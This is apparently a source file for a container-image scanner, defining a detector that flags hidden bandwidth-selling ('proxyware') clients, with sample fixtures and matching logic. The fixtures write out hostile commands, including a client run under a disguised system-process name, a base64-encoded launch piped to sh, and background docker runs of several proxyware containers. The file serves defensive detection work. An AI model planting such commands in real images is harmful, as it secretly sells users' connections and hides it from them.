import type { ProxywareEffect } from '../trace/effect.ts';
import {
  clientOf,
  clientOfImage,
  clientOfProgram,
  clientOfVariable,
  type ProxywareClient,
} from '../trace/effects/proxyware-clients.ts';
import { render, textOf } from '../trace/value.ts';
import { saysOf } from './declared.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { fileFinding } from './file-finding.ts';
import { layerOf } from './file-place.ts';
import { severityOf } from './severity.ts';
import { findingOf, type Sighting, sightingOf } from './sighting.ts';
import { tellingFiles } from './telling-files.ts';
import { programUse } from './uses.ts';
import { clip, valueWords } from './wording.ts';

/** Somebody is paid for the connection of whoever runs the image. */
export const proxyware: Detector = {
  id: 'proxyware',
  version: 1,
  title: 'Sells the internet connection of whoever runs it.',
  attack: ['T1496.002', 'T1090'],
  description: `
Bandwidth sellers (Honeygain, EarnApp, Pawns, Peer2Profit, PacketStream, TraffMonetizer, Repocket, Mysterium and some thirty
others), residential proxy exits and traffic exchanges (9Hits …) let strangers use a connection, for money to an account. What
the strangers do seems to come from there. *Malicious* when an image does it without saying so for an account that it brings
along, or under another name; also when a script starts such containers elsewhere or several of them in the background.
*Suspicious* when the image openly is such a client, or the account is the user's; or a client only lies there.

It shows in program names, in arguments that only one client takes (\`-tou-accept -email\`, \`start accept --token\`), in images that
are started, and in variables (\`P2P_EMAIL\`, \`RP_API_KEY\`, \`EARNAPP_UUID\`).
`,
  fires: [
    {
      name: 'inside an image for something else',
      image: {
        name: 'docker.io/someones/nginx-php:1',
        cmd: ['sh', '-c', 'honeygain -tou-accept -email a@box.example -pass x -device d & exec nginx -g "daemon off;"'],
        files: { '/usr/sbin/nginx': 'x' },
      },
    },
    {
      name: 'under another name',
      image: {
        cmd: ['sh', '-c', '/usr/lib/systemd/kworker -tou-accept -email=a@box.example -pass=x -device=d & exec app'],
      },
    },
    {
      name: 'by its arguments only',
      image: { entrypoint: ['/app/Cli'], cmd: ['start', 'accept', '--token', 'dG9rZW4='] },
    },
    {
      name: 'containers started elsewhere',
      image: {
        cmd: [
          'sh',
          '-c',
          'docker run -d --restart=always --name w traffmonetizer/cli_v2 start accept --token abc; docker run -d --restart=always -e RP_EMAIL=a@box.example -e RP_API_KEY=k repocket/repocket; docker run -d -e CID=abc packetstream/psclient',
        ],
      },
    },
    {
      name: 'an account among its variables',
      image: { entrypoint: ['/app/start'], env: ['EARNAPP_UUID=sdk-node-0123456789abcdef0123456789abcdef'] },
    },
    {
      name: 'PacketStream’s client and an account',
      image: { entrypoint: ['/usr/local/bin/psclient'], env: ['CID=abcd'] },
    },
    {
      name: 'encoded',
      image: { cmd: ['sh', '-c', `echo ${btoa('p2pclient --login a@box.example &')} | base64 -d | sh; exec app`] },
    },
    {
      name: 'a traffic exchange',
      image: {
        cmd: ['sh', '-c', '/nh.sh --token=0123456789abcdef --mode=exchange --system-session --allow-crypto=no'],
      },
    },
    {
      name: 'openly one',
      severity: 'suspicious',
      image: {
        name: 'docker.io/traffmonetizer/cli_v2:latest',
        entrypoint: ['./Cli'],
        cmd: ['start', 'accept', '--token', 'abc'],
      },
    },
    {
      name: 'openly one, the account is the user’s',
      severity: 'suspicious',
      image: {
        name: 'docker.io/someones/bandwidth:1',
        labels: { 'org.opencontainers.image.description': 'Honeygain in a container' },
        cmd: ['sh', '-c', 'honeygain -tou-accept -email $EMAIL -pass $PASS -device $HOSTNAME'],
      },
    },
    {
      name: 'the account is the user’s',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'exec p2pclient --login "$P2P_EMAIL"'] },
    },
    {
      name: 'in a compose file',
      severity: 'suspicious',
      image: {
        files: {
          '/docker-compose.yml':
            'services:\n  w:\n    image: packetstream/psclient\n    environment: [CID=abc]\n    restart: always\n',
        },
      },
    },
    {
      name: 'its settings, with an account',
      severity: 'suspicious',
      image: { files: { '/etc/earnapp/uuid': 'sdk-node-0123456789abcdef0123456789abcdef\n' } },
    },
    {
      name: 'a client that lies there',
      severity: 'suspicious',
      image: { cmd: ['app'], files: { '/opt/x/honeygain': { content: '\u007fELF stub', mode: 0o755 } } },
    },
  ],
  silent: [
    {
      name: 'a list of names to block',
      image: {
        files: { '/etc/blocklist.txt': 'honeygain.com\nearnapp.com\n' },
        cmd: ['grep', '-c', 'honeygain', '/etc/blocklist.txt'],
      },
    },
    { name: 'ending one', image: { cmd: ['sh', '-c', 'pkill -f honeygain; docker rm -f traffmonetizer; exec app'] } },
    {
      name: 'other programs with such options',
      image: {
        cmd: [
          'sh',
          '-c',
          'certbot --agree-tos --email a@b.example; app start --token $TOKEN; myst status; login --email x',
        ],
      },
    },
    {
      name: 'other variables',
      image: { env: ['UUID=1', 'USER_ID=7', 'CID=x', 'CODE=1', 'KEY=k', 'API_KEY=x'], cmd: ['app'] },
    },
    { name: 'asking for the version', image: { cmd: ['honeygain', '--version'] } },
  ],
  detect(scene) {
    return [...byEffects(scene), ...byContainers(scene), ...byEnvironment(scene), ...byPrograms(scene)];
  },
};

/** Whether the image says that it is this client, or one of its kind. */
function isDeclared(scene: Scene, client: ProxywareClient | undefined): boolean {
  if (clientOfImage(scene.facts.image.repository ?? '')?.id === client?.id && client) return true;
  return saysOf(scene, [...generalWords, ...(client?.words ?? []), ...(client ? [client.id] : [])]);
}

const generalWords = [
  'proxyware',
  'passiveincome',
  'money4band',
  'internetincome',
  'bandwidthsharing',
  'depin',
  'trafficexchange',
  'cashfactory',
];

function byEffects(scene: Scene): readonly FindingDraft[] {
  const effects = effectsOf(scene, 'proxyware');
  return effects.flatMap((effect) => {
    const client = clientOf(effect.client);
    const sighting = sightingOf(scene, effect);
    const declared = isDeclared(scene, client);
    const together = new Set(
      effects
        .filter((other) => scene.story.stages[other.stage]?.start === sighting.stage.start)
        .map((other) => other.client),
    );
    const renamed = isRenamed(effect, sighting, client);
    const given = isGiven(scene, effect, client);
    const several = together.size > 1 && (effect.how === 'container' || sighting.command?.background === true);
    const hostile = renamed || several || effect.how === 'container' || !given || sighting.outside !== undefined;
    return findingOf(scene, sighting, {
      threat: hostile ? 'hostile' : 'dual-use',
      declared,
      title: titleOf(
        declared,
        effect.client,
        effect.account && textOf(effect.account) !== undefined ? `, paid to ${valueWords(effect.account, 60)}` : '',
      ),
      because:
        renamed && !declared
          ? 'The program bears another name: only its arguments show what it is.'
          : several
            ? `It starts ${together.size} such clients together.`
            : given && !declared
              ? 'The account is that of whoever runs it.'
              : undefined,
      ...(renamed && !declared ? { attack: ['T1036.005'] } : {}),
      effects: [effect.id],
      encodingDeceives: true,
    });
  });
}

/** Containers of such images that are started by other ways than a command of `docker`: compose files, manifests, an engine's interface. */
function byContainers(scene: Scene): readonly FindingDraft[] {
  const told = new Set(
    effectsOf(scene, 'proxyware').flatMap(({ command }) => (command === undefined ? [] : [command])),
  );
  return effectsOf(scene, 'container-run').flatMap((effect) => {
    const client = effect.image ? clientOfImage(render(effect.image)) : undefined;
    if (!client || (effect.command !== undefined && told.has(effect.command))) return [];
    const declared = isDeclared(scene, client);
    return findingOf(scene, sightingOf(scene, effect), {
      threat: 'hostile',
      declared,
      title: titleOf(declared, client.id, ''),
      because: declared ? undefined : `It starts a container of ${valueWords(effect.image ?? [], 80)}.`,
      effects: [effect.id],
    });
  });
}

/** Settings that clients leave behind where they were set up. Sources: the clients' own installers. */
const settings: readonly (readonly [path: string, client: string])[] = [
  ['/etc/earnapp/uuid', 'earnapp'],
  ['/etc/earnapp/status', 'earnapp'],
  ['/root/.titanedge/config.toml', 'titan-edge'],
  ['/etc/mysterium-node/config-mainnet.toml', 'mysterium'],
  ['/root/.bitpingd/node.db', 'bitping'],
  ['/root/.bitping/node.db', 'bitping'],
];

/** Known by its arguments, under a name that is not the client's (a declared wrapper names its scripts as it likes). */
function isRenamed(effect: ProxywareEffect, sighting: Sighting, client: ProxywareClient | undefined): boolean {
  if (effect.how !== 'arguments' || !sighting.command) return false;
  // Arguments of a container stand without a program of their own.
  if (/^(-|start$|service$)/.test(sighting.command.name)) return false;
  return clientOfProgram(sighting.command.name)?.id !== client?.id;
}

/** Whether the account is left to whoever runs the image: a variable that the image does not set. */
function isGiven(scene: Scene, effect: ProxywareEffect, client: ProxywareClient | undefined): boolean {
  if (effect.account) return textOf(effect.account) === undefined;
  const names = new Set([...(client?.variables ?? []), ...(client?.accountVariables ?? [])]);
  return !environmentOf(scene).some(([name, value]) => names.has(name) && value !== '');
}

function environmentOf(scene: Scene): readonly (readonly [string, string])[] {
  return (scene.facts.image.config.config?.Env ?? []).slice(0, 1000).map((entry) => {
    const at = entry.indexOf('=');
    return at < 0 ? [entry, ''] : [entry.slice(0, at), entry.slice(at + 1, 1000)];
  });
}

/** Variables that only one client reads, and EarnApp's device number, which has a form of its own. */
function byEnvironment(scene: Scene): readonly FindingDraft[] {
  const seen = new Set(effectsOf(scene, 'proxyware').map(({ client }) => client));
  return environmentOf(scene).flatMap(([name, value]): FindingDraft[] => {
    const client =
      clientOfVariable(name) ?? (/^sdk-node-[0-9a-f]{24,40}$/.test(value) ? clientOf('earnapp') : undefined);
    if (!client || seen.has(client.id)) return [];
    seen.add(client.id);
    const declared = isDeclared(scene, client);
    const set = value !== '';
    const judged = severityOf({
      threat: set ? 'hostile' : 'dual-use',
      reach: 'runs',
      declared,
      because: set ? undefined : 'The variable is empty: the account is that of whoever runs it.',
    });
    if (!judged) return [];
    const where = { config: 'Env' };
    return [
      {
        title: titleOf(declared, client.id, set ? `, paid to ${clip(value, 60)}` : ''),
        ...judged,
        confidence: 'medium',
        reach: 'runs',
        where,
        evidence: [{ text: `${name}=${value}`.slice(0, 500), where }],
      },
    ];
  });
}

/** Clients among the files that no command of the story was seen to start with arguments. */
function byPrograms(scene: Scene): readonly FindingDraft[] {
  const findings: FindingDraft[] = [];
  const seen = new Set(effectsOf(scene, 'proxyware').map(({ client }) => client));
  for (const [path, id] of settings) {
    const file = scene.facts.files.get(path);
    const client = clientOf(id);
    if (!file || !client || seen.has(id)) continue;
    seen.add(id);
    const declared = isDeclared(scene, client);
    findings.push(
      ...fileFinding(scene, {
        threat: 'hostile',
        declared: declared || undefined,
        path,
        layer: file.layer,
        reach: 'present',
        title: `${declared ? 'Is declared proxyware: holds' : 'Holds'} the settings of ${id}, which sells the internet connection`,
        text: (scene.facts.files.text(file) ?? path).slice(0, 400),
        confidence: 'medium',
      }),
    );
  }
  for (const file of tellingFiles(scene).clients) {
    if (findings.length >= 20) break;
    const client = clientOfProgram(file.path.slice(file.path.lastIndexOf('/') + 1));
    if (!client || seen.has(client.id) || sharedNames.has(client.id)) continue;
    seen.add(client.id);
    const use = programUse(scene, file.path);
    const declared = isDeclared(scene, client);
    findings.push(
      ...fileFinding(scene, {
        // The program alone does nothing: it needs an account, and nothing of the image was seen to give it one.
        threat: use ? 'dual-use' : 'hostile',
        declared: declared || undefined,
        path: file.path,
        layer: file.layer,
        reach: use?.reach ?? 'present',
        title: `${declared ? 'Is declared proxyware: contains' : 'Contains'} the client of ${client.id}, which sells the internet connection`,
        text: file.path,
        confidence: 'medium',
        further: [{ text: file.path, where: { layer: layerOf(scene, file.layer), path: file.path }, note: 'its name' }],
      }),
    );
  }
  return findings;
}

/** Clients whose programs share their names with others. */
const sharedNames = new Set([
  'teneo',
  'spide',
  'multiple',
  'bearshare',
  'mysterium',
  'proxylite',
  'speedshare',
  'gradient',
]);

function titleOf(declared: boolean, client: string, account: string): string {
  return declared
    ? `Is declared proxyware: sells the internet connection (${client})${account}`
    : `Sells the internet connection of whoever runs it, without saying so (${client})${account}`;
}
